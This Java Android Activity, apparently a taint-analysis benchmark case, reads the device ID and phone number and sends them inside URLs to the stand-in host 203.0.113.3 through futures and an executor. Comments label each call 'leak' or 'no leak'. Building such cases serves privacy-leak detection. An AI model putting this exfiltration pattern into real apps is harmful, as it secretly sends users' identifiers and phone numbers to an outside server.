package habits;

import android.app.Activity;
import android.content.Context;
import android.os.Bundle;
import android.telephony.TelephonyManager;
import java.net.URL;
import java.util.concurrent.Callable;
import java.util.concurrent.CompletableFuture;
import java.util.concurrent.ExecutorService;
import java.util.concurrent.Executors;
import java.util.concurrent.Future;

/** Results that come later. */
public class Futures extends Activity {
    private static void open(String address) {
        try {
            new URL(address).openStream(); // leak
        } catch (Exception ignored) {
        }
    }

    @Override
    protected void onCreate(Bundle state) {
        TelephonyManager phone = (TelephonyManager) getSystemService(Context.TELEPHONY_SERVICE);
        CompletableFuture.supplyAsync(phone::getDeviceId).thenApply(id -> "http://203.0.113.3/" + id).thenAccept(Futures::open);
        ExecutorService pool = Executors.newSingleThreadExecutor();
        Future<String> later = pool.submit((Callable<String>) () -> phone.getLine1Number());
        Future<String> nothing = pool.submit((Callable<String>) () -> "nothing");
        try {
            new URL("http://203.0.113.3/2/" + later.get()).openStream(); // leak
            new URL("http://203.0.113.3/3/" + nothing.get()).openStream(); // no leak
        } catch (Exception ignored) {
        }
    }
}
